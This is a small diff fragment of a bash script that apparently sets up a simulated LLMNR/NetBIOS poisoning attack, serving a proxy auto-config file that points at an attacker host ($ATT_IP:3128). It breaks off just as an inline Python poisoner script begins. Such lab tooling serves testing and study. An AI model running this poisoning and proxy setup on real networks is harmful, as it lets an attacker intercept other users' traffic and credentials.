@@ -1,3 +1,4 @@
+# shellcheck shell=bash
 # A poisoner answers every name that is called into the link (LLMNR, NetBIOS), and serves a proxy script.
 start() { pac $ATT_IP:3128; att_http "$S/run/pac"
   sbg attacker poison python3 -c '
